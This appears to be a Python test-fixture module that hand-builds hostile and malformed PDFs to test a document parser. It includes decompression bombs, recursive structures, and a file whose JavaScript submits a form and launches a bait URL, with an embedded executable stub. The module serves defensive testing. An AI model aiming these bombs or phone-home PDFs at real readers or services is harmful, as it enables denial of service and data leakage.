"""PDF files, healthy ones and hostile ones, written by hand.

Source: ISO 32000-1, §7.3 (objects), §7.4 (filters), §7.5 (file structure), §9.10.3 (ToUnicode).
"""

from __future__ import annotations

import zlib
from collections.abc import Iterable, Mapping

from tests.hostile.case import Bait, Hostile, row
from tests.hostile.seeds import paragraphs
from tests.hostile.zips import zlib_zeros

CATALOG, PAGES, FONT, DESCENDANT, DESCRIPTOR, UNICODE = range(1, 7)
FIRST_PAGE = 10
MIB = 2**20
LINE = 26
"""Characters of a line, so that a paragraph is many of them, as on paper."""

Objects = dict[int, bytes]


def written(
    objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R", *, before: bytes = b"", at: int = 0
) -> bytes:
    """The objects as a file with a table of them; `at` is added to what the table says."""
    out = bytearray(before + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(out) - len(before)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out) - len(before)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(
        b"%010d 00000 n \n" % (places[number] + at) if number in places else b"0000000000 65535 f \n"
        for number in range(1, size)
    )
    out += b"trailer\n<< /Size %d %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start + at)
    return bytes(out)


def stream(data: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    size = len(data) if length is None else length
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (size, more, data)


def flated(data: bytes, level: int = 6) -> bytes:
    return stream(zlib.compress(data, level), b"/Filter /FlateDecode")


def unicode_map(characters: Iterable[str]) -> bytes:
    """What the codes of a font mean: each code is the character's own number."""
    rows = [f"<{ord(one):04x}> <{ord(one):04x}>" for one in sorted(set(characters))]
    blocks = [rows[at : at + 100] for at in range(0, len(rows), 100)]
    body = "\n".join(f"{len(block)} beginbfchar\n" + "\n".join(block) + "\nendbfchar" for block in blocks)
    return (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapType 2 def /CMapName /K def\n"
        f"1 begincodespacerange <0000> <ffff> endcodespacerange\n{body}\nendcmap end end"
    ).encode()


def shown(text: str) -> bytes:
    """The content of a page with this text, in lines."""
    lines = [line[at : at + LINE] for line in text.split("\n") for at in range(0, max(1, len(line)), LINE)]
    body = b"".join(b"<%b> Tj T*\n" % line.encode("utf-16-be").hex().encode() for line in lines)
    return b"BT /F0 12 Tf 16 TL 60 780 Td\n" + body + b"ET\n"


def fonts(characters: str, cmap: bytes | None = None) -> Objects:
    """A font whose glyphs are nowhere, as for text under a scanned page."""
    return {
        FONT: b"<< /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /Identity-H "
        b"/DescendantFonts [4 0 R] /ToUnicode 6 0 R >>",
        DESCENDANT: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) "
        b"/Ordering (Identity) /Supplement 0 >> /FontDescriptor 5 0 R /DW 1000 >>",
        DESCRIPTOR: b"<< /Type /FontDescriptor /FontName /SimSun /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 "
        b"/Ascent 859 /Descent -141 /CapHeight 700 /StemV 80 >>",
        UNICODE: flated(unicode_map(characters) if cmap is None else cmap),
    }


def page(contents: bytes, more: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F0 3 0 R >> >> "
        b"/Contents %b %b >>" % (contents, more)
    )


def pages(seed: int = 0) -> list[str]:
    """The text of three pages."""
    found = paragraphs(9, seed)
    return ["\n".join(found[at : at + 3]) for at in (0, 3, 6)]


def objects(seed: int = 0, *, catalog: bytes = b"", leaf: bytes = b"") -> Objects:
    """A file of three pages; `catalog` and `leaf` are added to the catalogue and to each page."""
    texts = pages(seed)
    found = {CATALOG: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog}
    kids = b" ".join(b"%d 0 R" % (FIRST_PAGE + 2 * n) for n in range(len(texts)))
    found[PAGES] = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, len(texts))
    found |= fonts("".join(texts))
    for n, text in enumerate(texts):
        found[FIRST_PAGE + 2 * n] = page(b"%d 0 R" % (FIRST_PAGE + 2 * n + 1), leaf)
        found[FIRST_PAGE + 2 * n + 1] = flated(shown(text))
    return found


def pdf(seed: int = 0, *, catalog: bytes = b"", leaf: bytes = b"") -> bytes:
    return written(objects(seed, catalog=catalog, leaf=leaf))


def with_stream(body: bytes) -> bytes:
    """The file with one more page, whose content is this stream."""
    found = objects()
    found[PAGES] = b"<< /Type /Pages /Kids [10 0 R 12 0 R 14 0 R 16 0 R] /Count 4 >>"
    found |= {16: page(b"17 0 R"), 17: body}
    return written(found)


# filters ---------------------------------------------------------------------------------------


def chained(times: int) -> bytes:
    """Spaces, deflated so many times over."""
    data = zlib_zeros(1024)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [%b]" % (b"/FlateDecode " * times))


def run_lengths(size: int) -> bytes:
    """Spaces by run length, 128 a pair of bytes, deflated."""
    data = zlib_zeros(size // MIB, b"\x81 ")
    return stream(data, b"/Filter [/FlateDecode /RunLengthDecode]")


def lzw(codes: int) -> bytes:
    """A stream of LZW that repeats one byte: each code one longer than the one before it."""
    from itertools import chain

    bits, total = 0, 0
    out = bytearray()
    table = chain(
        [(256, 9), (32, 9)],
        (
            (258 + n, 9 if 258 + n < 511 else 10 if 258 + n < 1023 else 11 if 258 + n < 2047 else 12)
            for n in range(3800)
        ),
    )
    block = list(table)
    for code, width in [*(block * (codes // len(block) + 1))[:codes], (257, 12)]:
        bits, total = bits << width | code, total + width
        while total >= 8:
            total -= 8
            out.append(bits >> total & 255)
        bits &= (1 << total) - 1
    out.append(bits << (8 - total) & 255)
    return bytes(out)


def hexes(levels: int) -> bytes:
    """Text in hexadecimal numbers of hexadecimal numbers."""
    data = b"BT /F0 12 Tf <6c11> Tj ET"
    for _ in range(levels):
        data = data.hex().encode()
    return stream(data, b"/Filter [%b]" % (b"/ASCIIHexDecode " * levels))


# structures ------------------------------------------------------------------------------------


def changed(
    number: int, body: bytes, more: Mapping[int, bytes] | None = None, trailer: bytes = b"/Root 1 0 R"
) -> bytes:
    return written(objects() | {number: body} | dict(more or {}), trailer)


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (20 + n) for n in range(count))
    found = objects() | {PAGES: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)}
    return written(found | {20 + n: page(b"11 0 R") for n in range(count)})


def forms(levels: int, width: int) -> bytes:
    """Forms that show forms: each level `width` times the one below it."""
    found = objects()
    for level in range(levels):
        names = b"/X %d 0 R" % (31 + level) if level + 1 < levels else b""
        body = b"/X Do " * width if names else b"BT /F0 12 Tf <6c11> Tj ET"
        more = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F0 3 0 R >> /XObject << %b >> >>"
        found[30 + level] = stream(body, more % names)
    found[FIRST_PAGE] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 16 0 R "
        b"/Resources << /XObject << /X 30 0 R >> >> >>"
    )
    found[16] = stream(b"/X Do")
    return written(found)


def object_streams(levels: int) -> bytes:
    """Object streams that are said to lie in object streams, by a table that is a stream too."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    inner = b"1 0 << /Type /Catalog /Pages 2 0 R >>"
    for number in range(10, 10 + levels):
        places[number] = len(out)
        more = b"/Type /ObjStm /N 1 /First 4 /Extends %d 0 R /Filter /FlateDecode" % (
            number + 1 if number + 1 < 10 + levels else 10
        )
        out += b"%d 0 obj\n%b\nendobj\n" % (number, stream(zlib.compress(inner), more))
    start = len(out)
    rows = bytearray(b"\0\0\0\0\0\0" * (11 + levels))
    for number in range(1, 10):
        rows[number * 6 : number * 6 + 6] = b"\2" + (10).to_bytes(4, "big") + b"\0"
    for number in range(11, 10 + levels):
        rows[number * 6 : number * 6 + 6] = b"\2" + (number - 1).to_bytes(4, "big") + b"\0"
    rows[60:66] = b"\2" + (9 + levels).to_bytes(4, "big") + b"\0"
    rows[-6:] = b"\1" + start.to_bytes(4, "big") + b"\0"
    more = b"/Type /XRef /W [1 4 1] /Size %d /Root 1 0 R" % (11 + levels)
    out += b"%d 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF" % (10 + levels, stream(bytes(rows), more), start)
    return bytes(out)


def table_loop() -> bytes:
    """A table that says that what came before it is itself."""
    data = pdf()
    start = data.rindex(b"startxref\n") + 10
    return data.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev %b >>" % data[start:].split(b"\n")[0])


def loops(key: bytes) -> bytes:
    """An object that is looked up for ever."""
    return (
        changed(
            FIRST_PAGE,
            page(b"11 0 R").replace(b"/MediaBox [0 0 595 842]", b"/MediaBox 40 0 R"),
            {40: b"41 0 R", 41: b"40 0 R"},
        )
        if key == b"box"
        else changed(11, b"<< /Length 11 0 R >>\nstream\nBT ET\nendstream")
    )


def actions(bait: Bait) -> bytes:
    """A file that would open, send, fetch and run."""
    far, own = bait.http.encode(), bait.file.removeprefix("file://").encode()
    links = [
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%b) >> >>" % far,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (%b) >> >>" % own,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (%b) >> /D [0 /Fit] >> >>"
        % far,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F << /FS /URL /F (%b) >> >> >>" % far,
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /PO << /S /ImportData /F (%b) >> >> >>" % own,
    ]
    more = b"/OpenAction << /S /JavaScript /JS (this.submitForm('%b'); app.launchURL('%b')) >> /URI << /Base (%b) >>"
    external = b"<< /Length 0 /F << /FS /URL /F (%b) >> >>\nstream\n\nendstream" % far
    found = objects(catalog=more % (far, far, far), leaf=b"/Annots [%b]" % b" ".join(links))
    found[FIRST_PAGE] = found[FIRST_PAGE].replace(b"/Contents 11 0 R", b"/Contents [11 0 R 16 0 R]")
    return written(found | {16: external})


def embedded() -> bytes:
    """A file with a script and another file in it."""
    script = b"<< /S /JavaScript /JS (while\\(1\\);) >>"
    more = b"/Names << /EmbeddedFiles << /Names [(x.exe) 16 0 R] >> /JavaScript << /Names [(a) %b] >> >>" % script
    found = objects(catalog=more)
    return written(found | {16: b"<< /Type /Filespec /F (x.exe) /EF << /F 17 0 R >> >>", 17: flated(b"MZ" * 9_000)})


def locked() -> bytes:
    """A file under a password that nobody knows (algorithm 3.2, revision 2)."""
    key = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%b> /U <%b> /P -44 >> /ID [<00> <00>] /Root 1 0 R"
    return written(objects(), key % (b"5a" * 32, b"a5" * 32))


def wrong_map() -> bytes:
    """A font whose codes are said to mean other characters than are shown."""
    cmap = unicode_map("".join(pages())).replace(b"> <", b"> <e")
    return written(objects() | {UNICODE: flated(cmap)})


def huge_map() -> bytes:
    """A map of codes to characters that unpacks to some 90 MB."""
    lines = b"".join(b"<%04x> <%04x> <%04x>\n" % (n, n, n) for n in range(0, 0xFFFF, 7)) * 480
    return written(
        objects() | {UNICODE: flated(b"begincmap 99999999 beginbfrange\n" + lines + b"endbfrange endcmap", 1)}
    )


def linear_half() -> bytes:
    """The first half of a file that was made for the web, its table of the rest gone."""
    data = written(objects() | {7: b"<< /Linearized 1 /L 99999 /H [600 50] /O 10 /E 5000 /N 3 /T 90000 >>"})
    return data[: len(data) // 2]


def scanned() -> bytes:
    """Pages of pictures alone."""
    found = objects()
    picture = b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    for n in (11, 13, 15):
        found[n] = stream(b"q 595 0 0 842 0 0 cm /I Do Q")
        found[n - 1] = found[n - 1].replace(b"/Font <<", b"/XObject << /I 16 0 R >> /Font <<")
    return written(found | {16: stream(bytes(range(64)), picture)})


def big_picture() -> bytes:
    """A picture said to be a billion wide and high."""
    found = objects()
    picture = b"/Type /XObject /Subtype /Image /Width 1000000000 /Height 1000000000 /BitsPerComponent 16 "
    picture += b"/ColorSpace /DeviceRGB /Filter /FlateDecode"
    found[FIRST_PAGE] = found[FIRST_PAGE].replace(b"/Font <<", b"/XObject << /I 16 0 R >> /Font <<")
    found[FIRST_PAGE] = found[FIRST_PAGE].replace(b"/Contents 11 0 R", b"/Contents [11 0 R 17 0 R]")
    return written(found | {16: stream(zlib_zeros(64), picture), 17: stream(b"q /I Do Q")})


LIMIT = "too-compressed too-large too-many-parts too-much-memory partial"
BROKEN = "damaged partial read empty no-text"

ROWS: tuple[Hostile, ...] = (
    row(
        "pdf: 300 MB of spaces, deflated",
        "a.pdf",
        lambda _: with_stream(stream(zlib_zeros(300), b"/Filter /FlateDecode")),
        LIMIT,
        bomb=True,
        kept=True,
    ),
    row(
        "pdf: 300 MB of shown text, deflated",
        "a.pdf",
        lambda _: with_stream(stream(zlib_zeros(300, b"BT /F0 9 Tf <6c11> Tj ET "), b"/Filter /FlateDecode")),
        LIMIT,
        bomb=True,
        kept=True,
    ),
    row("pdf: 1 GB deflated twice", "a.pdf", lambda _: with_stream(chained(2)), LIMIT, bomb=True, kept=True),
    row("pdf: 1 GB deflated four times", "a.pdf", lambda _: with_stream(chained(4)), LIMIT, bomb=True, kept=True),
    row(
        "pdf: 4 GB by run length in deflate",
        "a.pdf",
        lambda _: with_stream(run_lengths(64 * MIB)),
        LIMIT,
        bomb=True,
        kept=True,
    ),
    row(
        "pdf: 600 MB by LZW",
        "a.pdf",
        lambda _: with_stream(stream(lzw(300_000), b"/Filter /LZWDecode")),
        LIMIT + " read",
        bomb=True,
        kept=True,
    ),
    row(
        "pdf: LZW in deflate in hexadecimal",
        "a.pdf",
        lambda _: with_stream(
            stream(zlib.compress(lzw(300_000), 9).hex().encode(), b"/Filter [/ASCIIHexDecode /FlateDecode /LZWDecode]")
        ),
        LIMIT + " read",
        bomb=True,
        kept=True,
    ),
    row("pdf: 12 levels of hexadecimal", "a.pdf", lambda _: with_stream(hexes(12)), LIMIT + " read", kept=True),
    row(
        "pdf: page tree that is its own branch",
        "a.pdf",
        lambda _: changed(PAGES, b"<< /Type /Pages /Kids [2 0 R 10 0 R 2 0 R] /Count 3 >>"),
        BROKEN,
        bomb=True,
    ),
    row(
        "pdf: 1,000,000,000 pages claimed",
        "a.pdf",
        lambda _: changed(PAGES, b"<< /Type /Pages /Kids [10 0 R 12 0 R 14 0 R] /Count 1000000000 >>"),
        f"{BROKEN} too-many-parts",
        bomb=True,
        kept=True,
    ),
    row(
        "pdf: less than no pages claimed",
        "a.pdf",
        lambda _: changed(PAGES, b"<< /Type /Pages /Kids [10 0 R 12 0 R 14 0 R] /Count -5 >>"),
        BROKEN,
        kept=True,
    ),
    row("pdf: 6,000 pages", "a.pdf", lambda _: many_pages(6_000), "too-many-parts", bomb=True),
    row(
        "pdf: arrays 100,000 deep",
        "a.pdf",
        lambda _: changed(PAGES, b"<< /Type /Pages /Kids %b /Count 3 >>" % (b"[" * 100_000 + b"]" * 100_000)),
        f"{BROKEN} too-deep",
        bomb=True,
    ),
    row(
        "pdf: dictionaries 100,000 deep in a page",
        "a.pdf",
        lambda _: with_stream(stream(b"/P " + b"<</P " * 100_000 + b">>" * 100_000 + b" BDC EMC")),
        f"{BROKEN} too-deep",
        bomb=True,
        kept=True,
    ),
    row(
        "pdf: 3,000,000 states saved",
        "a.pdf",
        lambda _: with_stream(flated(b"q " * 3_000_000)),
        f"{BROKEN} {LIMIT} too-deep",
        bomb=True,
        kept=True,
    ),
    row(
        "pdf: 3,000,000 path points",
        "a.pdf",
        lambda _: with_stream(
            flated(b"0 0 m " + b"".join(b"%d %d l " % (n % 977, n % 991) for n in range(3_000_000)) + b"S", 1)
        ),
        f"{BROKEN} {LIMIT}",
        bomb=True,
        kept=True,
    ),
    row("pdf: table that came before itself", "a.pdf", lambda _: table_loop(), BROKEN, bomb=True),
    row("pdf: objects that are each other", "a.pdf", lambda _: loops(b"box"), BROKEN),
    row("pdf: a stream as long as itself", "a.pdf", lambda _: loops(b"length"), BROKEN),
    row(
        "pdf: object streams in object streams", "a.pdf", lambda _: object_streams(400), f"{BROKEN} too-deep", bomb=True
    ),
    row(
        "pdf: map of characters of 90 MB",
        "a.pdf",
        lambda _: huge_map(),
        f"{BROKEN} {LIMIT} too-damaged-text",
        bomb=True,
    ),
    row(
        "pdf: forms that show themselves",
        "a.pdf",
        lambda _: changed(
            FIRST_PAGE,
            page(b"16 0 R").replace(b"/Font", b"/XObject << /X 30 0 R >> /Font"),
            {
                16: stream(b"/X Do"),
                30: stream(
                    b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 30 0 R >> >>"
                ),
            },
        ),
        BROKEN,
        bomb=True,
    ),
    row(
        "pdf: forms of forms, 10 to the 12th",
        "a.pdf",
        lambda _: forms(12, 10),
        f"{BROKEN} {LIMIT} too-deep too-slow",
        bomb=True,
    ),
    row("pdf: a picture of 10^18 points", "a.pdf", lambda _: big_picture(), f"{BROKEN} {LIMIT}", bomb=True, kept=True),
    row(
        "pdf: numbers without end",
        "a.pdf",
        lambda _: changed(FIRST_PAGE, page(b"11 0 R").replace(b"595 842", b"9" * 100_000 + b" -" + b"9" * 400 + b".5")),
        BROKEN,
    ),
    row("pdf: under a password", "a.pdf", lambda _: locked(), "encrypted"),
    row("pdf: scripts and files in it", "a.pdf", lambda _: embedded(), "read partial", kept=True),
    row("pdf: links, forms, texts elsewhere", "a.pdf", actions, "read partial", kept=True, bait=True),
    row("pdf: pictures alone", "a.pdf", lambda _: scanned(), "no-text"),
    row(
        "pdf: no pages",
        "a.pdf",
        lambda _: changed(PAGES, b"<< /Type /Pages /Kids [] /Count 0 >>"),
        "no-text empty damaged",
    ),
    row("pdf: characters said to be others", "a.pdf", lambda _: wrong_map(), "read partial no-text too-damaged-text"),
    row(
        "pdf: no map of characters",
        "a.pdf",
        lambda _: changed(UNICODE, stream(b"")),
        "read partial no-text too-damaged-text damaged",
    ),
    row("pdf: cut in the middle", "a.pdf", lambda _: pdf()[: len(pdf()) // 2], "damaged partial no-text empty"),
    row("pdf: last line cut", "a.pdf", lambda _: pdf()[:-30], "read partial damaged", kept=True),
    row(
        "pdf: table that points beside", "a.pdf", lambda _: written(objects(), at=17), "read partial damaged", kept=True
    ),
    row(
        "pdf: begins at byte 1,020",
        "a.pdf",
        lambda _: written(objects(), before=b"x" * 1_019 + b"\n"),
        "read partial damaged",
        kept=True,
    ),
    row("pdf: half of one made for the web", "a.pdf", lambda _: linear_half(), "damaged partial no-text empty"),
    row("pdf: a head alone", "a.pdf", lambda _: b"%PDF-1.7\n", "damaged"),
    row("pdf: said to be a web page", "a.html", lambda _: pdf(), "read", kept=True),
    row("pdf: said to be plain text", "a.txt", lambda _: pdf(), "read", kept=True),
)
